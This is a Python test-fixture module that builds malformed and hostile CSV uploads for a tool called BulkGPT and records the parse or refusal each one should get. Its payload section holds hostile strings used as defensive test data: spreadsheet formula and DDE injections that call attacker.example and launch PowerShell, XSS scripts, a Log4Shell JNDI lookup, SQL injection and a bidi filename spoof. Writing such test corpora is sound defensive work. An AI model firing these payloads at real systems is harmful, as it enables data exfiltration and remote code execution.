"""Malformed and hostile files, built on demand rather than committed as junk.

Each :class:`HostileFile` holds the bytes a user or an attacker could upload
and what BulkGPT must make of them: :class:`Parsed` (the exact columns, and
the exact rows or their shape) or :class:`Refused` (words the one-line reason
must contain, and the line it names). ``corpus()`` gives them all;
``write_corpus(folder)`` writes them as files, for the command line.

The kinds: wrong formats, wrong encodings, broken quoting, absurd sizes and
shapes, control characters, formula and script payloads, text in other
directions and planes, every line ending and byte order mark, and broken
headers.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import json
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

Row = tuple[str, ...]


@dataclass(frozen=True)
class Parsed:
    """The file reads as a table with these columns and rows."""

    columns: tuple[str, ...]
    rows: tuple[Row, ...] | None = None  # every row exactly, when given
    row_count: int | None = None  # else how many rows, and the first one
    first_row: Row | None = None
    repairs: int = 0
    encoding: str | None = None
    delimiter: str = ","

    @property
    def count(self) -> int:
        return len(self.rows) if self.rows is not None else self.row_count or 0


@dataclass(frozen=True)
class Refused:
    """The file is refused; the reason contains ``words`` (and names ``line``)."""

    words: str
    line: int | None = None


@dataclass(frozen=True)
class HostileFile:
    name: str
    kind: str
    data: bytes
    expect: Parsed | Refused


KINDS = (
    "format",
    "encoding",
    "quoting",
    "shape",
    "control",
    "payload",
    "script",
    "line-ending",
    "header",
)


def csv_bytes(
    columns: Sequence[str],
    rows: Sequence[Row],
    *,
    delimiter: str = ",",
    newline: str = "\n",
    encoding: str = "utf-8",
    quoting: int = csv.QUOTE_MINIMAL,
) -> bytes:
    """A table as a spreadsheet app would save it."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(
        buffer, delimiter=delimiter, lineterminator=newline, quoting=quoting
    )
    writer.writerow(columns)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def table_file(
    name: str,
    kind: str,
    columns: Sequence[str],
    rows: Sequence[Row],
    *,
    encoding: str = "utf-8",
    label: str | None = None,
    **options: object,
) -> HostileFile:
    """A file whose table must come back exactly as written."""
    data = csv_bytes(columns, rows, encoding=encoding, **options)  # type: ignore[arg-type]
    expected = Parsed(
        tuple(columns),
        tuple(rows),
        encoding=label or encoding,
        delimiter=str(options.get("delimiter", ",")),
    )
    return HostileFile(name, kind, data, expected)


# -- wrong formats -------------------------------------------------------------


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return buffer.getvalue()


def wrong_formats() -> Iterator[HostileFile]:
    kind = "format"
    yield HostileFile(
        "workbook.xlsx",
        kind,
        _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
        Refused("Excel workbook (.xlsx)"),
    )
    yield HostileFile(
        "old-workbook.xls",
        kind,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        Refused("older Excel workbook (.xls)"),
    )
    yield HostileFile(
        "sheet.ods",
        kind,
        # As LibreOffice saves it: the mimetype first, uncompressed.
        _zip(
            {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"},
            zipfile.ZIP_STORED,
        ),
        Refused("OpenDocument spreadsheet"),
    )
    yield HostileFile(
        "archive.zip", kind, _zip({"data.csv": b"a,b\n1,2\n"}), Refused("zip archive")
    )
    yield HostileFile(
        "report.pdf",
        kind,
        b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer\n%%EOF\n",
        Refused("PDF document"),
    )
    yield HostileFile(
        "chart.png",
        kind,
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01",
        Refused("PNG image"),
    )
    yield HostileFile(
        "photo.jpg", kind, b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", Refused("JPEG image")
    )
    yield HostileFile(
        "data.csv.gz", kind, gzip.compress(b"a,b\n1,2\n"), Refused("gzip-compressed")
    )
    yield HostileFile(
        "page.html",
        kind,
        b"<!DOCTYPE html>\n<html><body>\n<table><tr><td>a</td><td>b</td></tr>\n"
        b"<tr><td>1</td><td>2</td></tr></table>\n</body></html>\n",
        Refused("web page (HTML)"),
    )
    yield HostileFile(
        "data.json",
        kind,
        json.dumps([{"name": "Ann", "age": 3}, {"name": "Bob", "age": 4}], indent=2)
        .encode()
        .replace(b"\n", b"\r\n"),
        Refused("JSON"),
    )
    yield HostileFile(
        "data.jsonl",
        kind,
        b'{"name": "Ann", "note": "a,b"}\n{"name": "Bob", "note": "c"}\n',
        Refused("JSON"),
    )
    yield HostileFile(
        "spreadsheet-2003.xml",
        kind,
        b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:'
        b'office:spreadsheet">\n<Row><Cell>1</Cell></Row>\n</Workbook>\n',
        Refused("XML document"),
    )
    yield HostileFile(
        "letter.rtf", kind, b"{\\rtf1\\ansi a,b\\par 1,2\\par }", Refused("rich text")
    )
    yield HostileFile(
        "program.exe",
        kind,
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff",
        Refused("NUL bytes", line=1),
    )
    yield HostileFile(
        "store.sqlite3",
        kind,
        b"SQLite format 3\x00\x10\x00\x01\x01",
        Refused("NUL bytes", line=1),
    )


# -- wrong encodings and byte order marks --------------------------------------

LATIN = (("Ann", "Zürich"), ("Zoë", "São Paulo"), ("Łukasz", "Kraków"))


def encodings() -> Iterator[HostileFile]:
    kind = "encoding"
    columns = ("name", "city")
    yield table_file(
        "utf16-le-no-bom.csv",
        kind,
        columns,
        LATIN,
        encoding="utf-16-le",
        newline="\r\n",
    )
    yield table_file("utf16-be-no-bom.csv", kind, columns, LATIN, encoding="utf-16-be")
    yield table_file(
        "excel-unicode-text.txt",
        kind,
        columns,
        LATIN,
        encoding="utf-16",
        delimiter="\t",
        newline="\r\n",
    )
    yield table_file("utf32-bom.csv", kind, columns, LATIN, encoding="utf-32")
    yield table_file(
        "utf8-bom.csv", kind, columns, LATIN, encoding="utf-8-sig", newline="\r\n"
    )
    yield HostileFile(
        "utf8-two-boms.csv",
        kind,
        codecs.BOM_UTF8 * 2 + csv_bytes(columns, LATIN),
        Parsed(columns, LATIN, encoding="utf-8-sig"),
    )
    yield HostileFile(
        "utf16-be-bom.csv",
        kind,
        codecs.BOM_UTF16_BE + csv_bytes(columns, LATIN, encoding="utf-16-be"),
        Parsed(columns, LATIN, encoding="utf-16"),
    )
    western = (("café", "“quoted” – 5 €"), ("Müller", "naïve façade"))
    yield table_file(
        "windows-1252.csv", kind, ("name", "note"), western, encoding="cp1252"
    )
    yield HostileFile(
        "shift-jis-kanji.csv",
        kind,
        "名前,都市\n山田,東京\n佐藤,大阪\n".encode("shift_jis"),
        Refused("neither UTF-8 nor Windows-1252", line=3),
    )
    yield HostileFile(
        "shift-jis-kana.csv",
        kind,
        "なまえ,カタカナ\nやまだ,トウキョウ\n".encode("shift_jis"),
        Refused("Shift-JIS", line=1),
    )
    yield HostileFile(
        "gbk.csv",
        kind,
        "名字,城市\n张三,北京\n李四,上海\n".encode("gbk"),
        Refused("GBK", line=1),
    )
    yield HostileFile(
        "utf8-then-1252.csv",
        kind,
        "name,city\nAnn,Zürich\n".encode() + "Bob,Köln\n".encode("cp1252"),
        Refused("UTF-8 text but", line=3),
    )
    yield HostileFile(
        "1252-then-utf8.csv",
        kind,
        "name,city\nBob,Köln\n".encode("cp1252") + "Ann,Zürich\n".encode(),
        Refused("mixes UTF-8 with another encoding", line=2),
    )


# -- broken quoting ------------------------------------------------------------


def quoting() -> Iterator[HostileFile]:
    kind = "quoting"
    yield HostileFile(
        "unclosed-quote.csv",
        kind,
        b'id,text\n1,"never closed\n2,fine\n3,also fine\n',
        Refused("never closed", line=2),
    )
    yield HostileFile(
        "stray-quotes.csv",
        kind,
        b'id,text\n1,5" screen\n2,say ""hi""\n',
        Parsed(("id", "text"), (("1", '5" screen'), ("2", 'say ""hi""'))),
    )
    yield HostileFile(
        "text-after-closing-quote.csv",
        kind,
        b'id,text\n1,"quoted"tail\n',
        Parsed(("id", "text"), (("1", "quotedtail"),)),
    )
    yield table_file(
        "quoted-line-breaks.csv",
        kind,
        ("id", "text"),
        (("1", "line one\r\nline two"), ("2", 'a "quote", a comma\nand more')),
        newline="\r\n",
    )
    yield HostileFile(
        "extra-cells.csv",
        kind,
        b"id,text\n1,hello\n2,hello, world\n",
        Refused("3 cells but the header has 2", line=3),
    )


# -- absurd sizes and shapes ---------------------------------------------------


def shapes() -> Iterator[HostileFile]:
    kind = "shape"
    many = 20_000
    yield HostileFile(
        "one-column-many-rows.csv",
        kind,
        ("id\n" + "".join(f"{i}\n" for i in range(many))).encode(),
        Parsed(("id",), row_count=many, first_row=("0",)),
    )
    wide = tuple(f"c{i}" for i in range(500))
    yield table_file("500-columns.csv", kind, wide, (tuple("x" * 500),))
    yield HostileFile(
        "5000-columns.csv",
        kind,
        csv_bytes([f"c{i}" for i in range(5000)], [("1",) * 5000]),
        Refused("BULKGPT_MAX_COLUMNS", line=1),
    )
    yield table_file(
        "cell-at-the-limit.csv", kind, ("id", "text"), (("1", "y" * 100_000),)
    )
    yield HostileFile(
        "cell-over-the-limit.csv",
        kind,
        csv_bytes(("id", "text"), (("1", "short"), ("2", "z" * 300_000))),
        Refused("BULKGPT_MAX_CELL_CHARS", line=3),
    )
    long_row = tuple("w" * 4_000 for _ in range(250))
    yield table_file(
        "one-megabyte-line.csv", kind, tuple(f"c{i}" for i in range(250)), (long_row,)
    )
    yield HostileFile("empty.csv", kind, b"", Refused("empty (0 bytes)"))
    yield HostileFile(
        "blank-lines-only.csv", kind, b"\n\r\n\n\r\r\n", Refused("only blank lines")
    )
    yield HostileFile(
        "only-delimiters.csv", kind, b",,,\n,,,\n,,,\n", Refused("only blank lines")
    )
    yield HostileFile("header-only.csv", kind, b"id,text\r\n", Refused("no data rows"))


# -- control characters and NUL ------------------------------------------------


def control_characters() -> Iterator[HostileFile]:
    kind = "control"
    values = (
        ("bell", "ring\x07ring"),
        ("escape", "\x1b[31mred\x1b[0m"),
        ("form feed", "page\x0cbreak"),
        ("vertical tab", "a\x0bb"),
        ("delete", "x\x7fy"),
        ("next line", "one\x85two"),
        ("line separator", "one\u2028two\u2029three"),
        ("backspace", "abc\x08\x08"),
    )
    yield table_file("control-characters.csv", kind, ("what", "value"), values)
    yield HostileFile(
        "nul-in-a-cell.csv",
        kind,
        b"id,text\n1,fine\n2,bad\x00cell\n",
        Refused("NUL bytes", line=3),
    )
    yield HostileFile(
        "utf16-with-nul-char.csv",
        kind,
        "id,text\n1,a\x00b\n".encode("utf-16"),
        Refused("NUL bytes", line=2),
    )


# -- formula and script payloads -----------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C powershell IEX(wget attacker.example)'!A0",
)
SCRIPTS = (
    "<script>alert(document.cookie)</script>",
    "javascript:alert(1)",
    '<img src=x onerror="alert(1)">',
    "[click me](javascript:alert(1))",
    "**bold** _markdown_ `code` # heading",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "<<text>> is not a placeholder here",
    "${jndi:ldap://attacker.example/a}",
    "'; DROP TABLE batches; --",
)


def payloads() -> Iterator[HostileFile]:
    yield table_file(
        "formulas.csv",
        "payload",
        ("id", '=HYPERLINK("x")', "text"),
        tuple((str(i), "=1", value) for i, value in enumerate(FORMULAS)),
        newline="\r\n",  # so Python's writer quotes a value holding "\r"
    )
    yield table_file(
        "scripts.csv",
        "script",
        ("id", "<b>name</b>", "text"),
        tuple((str(i), "<i>x</i>", value) for i, value in enumerate(SCRIPTS)),
    )


# -- other directions and planes -----------------------------------------------

WORLD = (
    ("arabic", "مرحبا بالعالم، كيف حالك؟"),
    ("hebrew", "שלום עולם"),
    ("bidi override", "\u202egnp.exe\u202c invoice"),
    ("isolates", "\u2067עברית\u2069 and \u2066English\u2069"),
    ("emoji", "😀👍🏽🇯🇵"),
    ("family", "👨\u200d👩\u200d👧\u200d👦"),
    ("math bold", "𝕳𝖊𝖑𝖑𝖔 𝟙𝟚𝟛"),
    ("hieroglyph", "𓀀𓁐"),
    ("combining", "e\u0301 vs \u00e9, Z\u0337\u0322a\u0335l\u0336g\u0338o"),
    ("zero width", "a\u200bb\u200cc\u200dd\u2060e\ufeffend"),
    ("cjk", "漢字かなカナ한글"),
)


def scripts_of_the_world() -> Iterator[HostileFile]:
    kind = "script"
    yield table_file("world.csv", kind, ("what", "text"), WORLD)
    yield table_file(
        "world-utf16.csv", kind, ("what", "text"), WORLD, encoding="utf-16"
    )
    yield table_file(
        "zero-width-header.csv",
        kind,
        ("na\u200bme", "\u202ecity"),
        (("Ann", "Paris"),),
    )


# -- line endings --------------------------------------------------------------

SIMPLE = (("1", "a"), ("2", "b"), ("3", "c"))


def line_endings() -> Iterator[HostileFile]:
    kind = "line-ending"
    for label, newline in (("lf", "\n"), ("crlf", "\r\n"), ("cr", "\r")):
        yield table_file(f"{label}.csv", kind, ("id", "v"), SIMPLE, newline=newline)
    yield HostileFile(
        "mixed-line-endings.csv",
        kind,
        b"id,v\r\n1,a\n2,b\r3,c\r\n",
        Parsed(("id", "v"), SIMPLE),
    )
    yield HostileFile(
        "no-final-newline.csv",
        kind,
        b"id,v\n1,a\n2,b\n3,c",
        Parsed(("id", "v"), SIMPLE),
    )
    yield HostileFile(
        "blank-lines-between.csv",
        kind,
        b"\n\nid,v\n\n1,a\r\n\r\n2,b\n\n\n3,c\n\n",
        Parsed(("id", "v"), SIMPLE),
    )


# -- headers and delimiters ----------------------------------------------------


def headers() -> Iterator[HostileFile]:
    kind = "header"
    yield HostileFile(
        "duplicate-and-blank-headers.csv",
        kind,
        b"name,,name, name ,NAME,\n1,2,3,4,5,6\n",
        Parsed(
            ("name", "column_2", "name_2", "name_3", "NAME", "column_6"),
            (("1", "2", "3", "4", "5", "6"),),
            repairs=4,
        ),
    )
    yield table_file(
        "line-break-in-header.csv",
        kind,
        ("first\nname", "age"),
        (("Ann", "007"),),
    )
    yield table_file(
        "semicolons.csv",
        kind,
        ("name", "price"),
        (("Ann", "1,50"), ("Bob", "2,75")),
        delimiter=";",
    )
    yield table_file(
        "pipes.csv", kind, ("name", "note"), (("Ann", "a,b;c"),), delimiter="|"
    )


def corpus() -> list[HostileFile]:
    """Every hostile file, each name once."""
    files = [
        *wrong_formats(),
        *encodings(),
        *quoting(),
        *shapes(),
        *control_characters(),
        *payloads(),
        *scripts_of_the_world(),
        *line_endings(),
        *headers(),
    ]
    assert len({f.name for f in files}) == len(files), "corpus names must be unique"
    return files


def write_corpus(folder: Path) -> dict[str, Path]:
    """Write every file into ``folder``; their paths by name."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for hostile in corpus():
        path = folder / hostile.name
        path.write_bytes(hostile.data)
        paths[hostile.name] = path
    return paths
